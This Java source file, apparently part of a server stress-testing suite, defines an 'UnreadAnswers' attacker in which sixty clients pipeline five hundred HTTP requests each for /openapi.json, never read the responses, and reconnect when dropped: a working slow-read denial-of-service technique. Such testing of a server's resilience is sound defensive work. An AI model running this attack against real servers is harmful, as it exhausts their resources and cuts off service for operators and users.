package io.threatrelay.siege;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Sixty clients that pipeline five hundred questions with large answers each, and read nothing. */
record UnreadAnswers() implements Attacker {

  static final int CLIENTS = 60;
  static final int QUESTIONS = 500;
  private static final int SMALL_BUFFER = 2048;
  private static final Duration ROUND = Duration.ofSeconds(1);

  @Override
  public void attack(Target target, long end) {
    String question = "GET /openapi.json HTTP/1.1\r\nHost: " + target.authority() + "\r\n\r\n";
    List<Connection> connections = new ArrayList<>();
    while (Attacker.goesOn(end)) {
      for (int i = connections.size(); i < CLIENTS; i++) {
        Connection.open(target.port(), SOURCE, SMALL_BUFFER)
            .ifPresent(opened -> connections.add(opened.send(question.repeat(QUESTIONS))));
      }
      Attacker.pause(ROUND);
      connections.removeIf(connection -> isCutOff(connection, question));
    }
    connections.forEach(Connection::close);
  }

  /** A client that does not read learns from a failure to send that it was disconnected. */
  private static boolean isCutOff(Connection connection, String question) {
    if (connection.flush()) {
      connection.send(question);
    }
    if (connection.isBroken()) {
      connection.close();
    }
    return connection.isBroken();
  }
}
